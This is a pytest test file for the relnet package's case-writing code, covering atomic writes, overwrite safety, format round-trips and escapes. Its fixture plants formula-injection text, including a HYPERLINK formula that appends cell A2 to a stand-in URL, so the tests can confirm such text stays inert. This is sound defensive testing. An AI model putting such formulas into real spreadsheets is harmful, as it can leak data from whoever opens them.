"""Writing cases (relnet/data/write.py): atomic, refuses to overwrite, never deletes a file it did
not write, stores text that looks like a formula as text."""

import openpyxl
import pandas as pd
import pytest
from conftest import run, snapshot

import relnet


def test_write_refuses_existing_path_and_leaves_it_untouched(tmp_path):
    case = relnet.load_example("haverdonk")
    target = tmp_path / "out"
    relnet.write_case(case, target)
    before = snapshot(target)
    with pytest.raises(FileExistsError, match="overwrite=True"):
        relnet.write_case(relnet.load_example("lindermeer"), target)
    assert snapshot(target) == before
    relnet.write_case(relnet.load_example("lindermeer"), target, overwrite=True)
    assert relnet.read_case(target).meta["municipality"] == "Lindermeer"
    # no temporary files are left next to the target
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]


def test_failed_write_leaves_nothing_behind(tmp_path, monkeypatch):
    import relnet.data.write as rio

    def broken(case, target):
        target.mkdir()
        (target / "case.yaml").write_text("half")
        raise OSError("disk full")

    monkeypatch.setattr(rio, "_write_folder", broken)
    with pytest.raises(OSError, match="disk full"):
        relnet.write_case(relnet.load_example("haverdonk"), tmp_path / "out")
    assert list(tmp_path.iterdir()) == []


def test_overwrite_failure_keeps_the_old_case(tmp_path, monkeypatch):
    import relnet.data.write as rio

    target = tmp_path / "c.xlsx"
    relnet.write_case(relnet.load_example("haverdonk"), target)
    before = snapshot(target)
    monkeypatch.setattr(rio, "_write_xlsx", lambda case, t: (_ for _ in ()).throw(OSError("x")))
    with pytest.raises(OSError):
        relnet.write_case(relnet.load_example("lindermeer"), target, overwrite=True)
    assert snapshot(target) == before


def test_text_that_looks_like_a_formula_survives_a_workbook(case_dir, tmp_path, capsys):
    folder = case_dir(actors="id,name,kind,district\ngem,=Gemeente,gemeente,=Oost\n"
                             "zorg,+Zorg,zorgaanbieder,@Noord\n")
    assert run(["convert", folder, tmp_path / "c.xlsx"], capsys)[0] == 0
    sheet = openpyxl.load_workbook(tmp_path / "c.xlsx")["actors"]
    assert sheet["G2"].value == "=Oost" and sheet["G2"].data_type == "s"
    assert run(["convert", tmp_path / "c.xlsx", tmp_path / "back"], capsys)[0] == 0
    back = relnet.read_case(tmp_path / "back").actors
    assert list(back["district"]) == ["=Oost", "@Noord"]
    assert list(back["name"]) == ["=Gemeente", "+Zorg"]


def test_overwrite_never_deletes_files_relnet_did_not_write(tmp_path, capsys):
    project = tmp_path / "proj"
    relnet.write_case(relnet.load_example("lindermeer"), project)
    (project / "interviews.docx").write_bytes(b"verslagen")
    before = snapshot(project)
    code, text = run(["anonymize", project, project, "--salt", "k3Jx9-PqLm2vT7wZ-r3lnet",
                      "--overwrite"], capsys)
    assert code == 1 and "interviews.docx" in text
    assert snapshot(project) == before
    # a folder with only a case's own files is replaced
    relnet.write_case(relnet.load_example("haverdonk"), tmp_path / "alleen", overwrite=False)
    relnet.write_case(relnet.load_example("lindermeer"), tmp_path / "alleen", overwrite=True)
    assert relnet.read_case(tmp_path / "alleen").meta["municipality"] == "Lindermeer"


# ------------------------------------------------------------------ round 3: values that change on the way

HOSTILE_META = {"tags": ["a", "b"], "contact": {"naam": "X", "tel": "06"}, "ratio": 0.5,
                "day": __import__("datetime").date(2020, 1, 2), "flag": True, "nothing": None,
                "code": "007", "multi": "regel 1\nregel 2\n", "summary": "een\r\ntwee\rdrie",
                "population": 48000}


def _hostile_case():
    case = relnet.load_example("haverdonk")
    case.ties["comment"] = case.ties["comment"].astype(object)
    case.ties.loc[0, "comment"] = '=HYPERLINK("http://x"&A2, "klik")'
    case.ties.loc[1, "comment"] = "een\rtwee\r\ndrie\nvier"
    case.ties.loc[2, "comment"] = "'=al een apostrof"
    case.ties.loc[3, "comment"] = "_x000D_ letterlijk"
    case.actors["omzet"] = "x"
    case.actors.loc[0, "omzet"] = "1\u00a0000\u00a0000"
    case.actors.loc[1, "omzet"] = "-3"
    case.actors.loc[2, "omzet"] = "+31 6 1234"
    case.meta.update(HOSTILE_META)
    return case


def _same(a, b):
    assert a.meta == b.meta
    for name in a.tables:
        pd.testing.assert_frame_equal(a.tables[name], b.tables[name], check_dtype=True)


def test_every_value_survives_folder_xlsx_folder_zip_folder(tmp_path):
    relnet.write_case(_hostile_case(), tmp_path / "a")
    first = relnet.read_case(tmp_path / "a")
    assert first.ties.loc[1, "comment"] == "een\rtwee\r\ndrie\nvier"
    assert first.actors.loc[0, "omzet"] == "1\u00a0000\u00a0000"
    assert {k: first.meta[k] for k in HOSTILE_META} == HOSTILE_META
    steps = [tmp_path / "b.xlsx", tmp_path / "c", tmp_path / "d.zip", tmp_path / "e"]
    source = tmp_path / "a"
    for step in steps:
        relnet.write_case(relnet.read_case(source), step)
        _same(first, relnet.read_case(step))
        source = step


def test_the_case_csv_files_never_hold_a_live_formula(tmp_path):
    relnet.write_case(_hostile_case(), tmp_path / "a")
    lines = (tmp_path / "a" / "ties.csv").read_bytes().decode().split("\n")
    assert lines[1].endswith(',"\'=HYPERLINK(""http://x""&A2, ""klik"")"')
    assert any(line.endswith(",''=al een apostrof") for line in lines)  # one ' comes off
    actors = (tmp_path / "a" / "actors.csv").read_text()
    assert ",-3\n" in actors and ",'+31 6 1234\n" in actors  # a number stays a number


def test_a_case_yaml_value_keeps_its_type_in_a_workbook(tmp_path):
    case = _hostile_case()
    relnet.write_case(case, tmp_path / "b.xlsx")
    rows = list(openpyxl.load_workbook(tmp_path / "b.xlsx")["case"].values)
    assert rows[0] == ("key", "value", "type")
    as_written = {r[0]: (r[1], r[2]) for r in rows[1:]}
    assert as_written["code"] == ("007", None) and as_written["flag"] == ("true", "yaml")
    assert as_written["tags"] == ("[a, b]", "yaml")
    assert relnet.read_case(tmp_path / "b.xlsx").meta["day"] == HOSTILE_META["day"]


@pytest.mark.parametrize("name", ["x.csv", "x.yaml", "x.txt", "x.ods"])
def test_a_folder_named_like_a_file_is_refused(tmp_path, name):
    with pytest.raises(ValueError, match="not as '"):
        relnet.write_case(relnet.load_example("haverdonk"), tmp_path / name)
    assert not (tmp_path / name).exists()


def test_a_case_can_be_written_as_a_zip(tmp_path):
    relnet.write_case(relnet.load_example("haverdonk"), tmp_path / "h.zip")
    import zipfile

    assert "case.yaml" in zipfile.ZipFile(tmp_path / "h.zip").namelist()
    assert relnet.read_case(tmp_path / "h.zip").meta["municipality"] == "Haverdonk"


def _libreoffice_save_as_xlsx(path, tmp_path):
    """`path` opened and saved as xlsx by LibreOffice (skips without soffice, fails on CI)."""
    import os
    import shutil
    import subprocess

    soffice = shutil.which("soffice")
    if soffice is None:
        if os.environ.get("CI"):
            pytest.fail("CI must run LibreOffice: soffice is missing", pytrace=False)
        pytest.skip("LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
    out = tmp_path / "libreoffice"
    subprocess.run([soffice, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
                    "--convert-to", "xlsx", "--outdir", str(out), str(path)],
                   check=True, capture_output=True, timeout=180)
    return out / path.name


@pytest.mark.office
def test_a_case_workbook_saved_by_libreoffice_reads_back_the_same(tmp_path):
    from relnet.network.names import merge_actors

    case = _hostile_case()
    # LibreOffice keeps a line break CR LF inside a cell as LF (a lone CR stays): that is
    # relnet's limit; text that looks like an escape ("_x000D_ letterlijk") survives
    case.ties.loc[1, "comment"] = "een\ntwee"
    case.meta["summary"] = "een\ntwee"
    case = merge_actors(case, {"vrijw_cent": "welz_hav"})  # means of 17 digits
    relnet.write_case(case, tmp_path / "a.xlsx")
    first = relnet.read_case(tmp_path / "a.xlsx")
    assert first.ties["trust"].map(lambda v: v == v and f"{v:.15g}" != repr(v)).any()
    _same(first, relnet.read_case(_libreoffice_save_as_xlsx(tmp_path / "a.xlsx", tmp_path)))


@pytest.mark.slow
def test_a_500_column_actors_table_is_written_so_that_relnet_reads_it_back(tmp_path):
    from conftest import write_case_files

    extra = [f"x{i}" for i in range(497)]
    actors = "id,name,kind," + ",".join(extra) + "\n" + "\n".join(
        f"{a},{a.upper()},{k}," + ",".join("v" for _ in extra)
        for a, k in (("gem", "gemeente"), ("zorg", "zorgaanbieder"), ("sp", "sleutelpersoon")))
    folder = write_case_files(tmp_path / "wide", actors=actors + "\n")
    case = relnet.read_case(folder)
    assert len(case.actors.columns) > 500  # the contract's optional columns are added
    for target in (tmp_path / "copy", tmp_path / "copy.xlsx"):
        relnet.write_case(case, target)
        back = relnet.read_case(target)
        pd.testing.assert_frame_equal(back.actors, case.actors)


# ------------------------------------------------------------------ review of round 3


def test_a_lone_cr_in_a_cell_is_quoted_and_read_back(tmp_path):
    import csv
    import io

    case = relnet.load_example("haverdonk")
    ties = case.ties.copy()
    ties["comment"] = ties["comment"].astype(object)
    values = ["eerste regel\rtweede regel", "a\r\nb\rc", 'zei "ja"\rnee', "=x\ry"]
    for row, value in enumerate(values):
        ties.loc[row, "comment"] = value
    relnet.write_case(case.copy(ties=ties), tmp_path / "c")
    data = (tmp_path / "c" / "ties.csv").read_bytes().decode("utf-8")
    assert "\r\n" not in data.replace("a\r\nb", "")  # line ends stay LF
    rows = list(csv.reader(io.StringIO(data, newline="")))
    assert len(rows) == len(ties) + 1  # every CR inside its (quoted) cell
    back = relnet.read_case(tmp_path / "c")
    assert list(back.ties["comment"][:4]) == values
    relnet.write_case(back, tmp_path / "c.zip")
    relnet.write_case(relnet.read_case(tmp_path / "c.zip"), tmp_path / "d.xlsx")
    _same(back, relnet.read_case(tmp_path / "d.xlsx"))


def test_text_that_looks_like_an_ooxml_escape_is_decoded_once(tmp_path):
    from conftest import book

    # openpyxl stores these as shared strings, as Excel and LibreOffice do
    path = book(tmp_path / "s.xlsx", {
        "case": [["key", "value"], ["name", "X"], ["municipality", "Y"], ["fictional", "ja"]],
        "actors": [["id", "name", "kind"], ["gem", "Gemeente _x005F_x0041_", "gemeente"],
                   ["zorg", "Zorg_x000D_BV", "zorgaanbieder"]],
        "ties": [["source", "target", "type"], ["gem", "zorg", "financiering"]]})
    names = list(relnet.read_case(path).actors["name"])
    assert names == ["Gemeente _x0041_", "Zorg\rBV"]
    case = relnet.load_example("haverdonk")
    case.ties["comment"] = case.ties["comment"].astype(object)
    case.ties.loc[0, "comment"] = "_x005F_x000D_"  # overlapping escapes
    relnet.write_case(case, tmp_path / "o.xlsx")
    assert relnet.read_case(tmp_path / "o.xlsx").ties.loc[0, "comment"] == "_x005F_x000D_"


@pytest.mark.office
def test_escape_like_text_survives_libreoffice(tmp_path):
    case = relnet.load_example("haverdonk")
    case.ties["comment"] = case.ties["comment"].astype(object)
    values = ["code _x0041_ uit het oude systeem", "_x000D_", "a_x005F_b", "a\rb",
              "x_x00e9_y"]
    for row, value in enumerate(values):
        case.ties.loc[row, "comment"] = value
    relnet.write_case(case, tmp_path / "a.xlsx")
    saved = relnet.read_case(_libreoffice_save_as_xlsx(tmp_path / "a.xlsx", tmp_path))
    assert list(saved.ties["comment"][:5]) == values
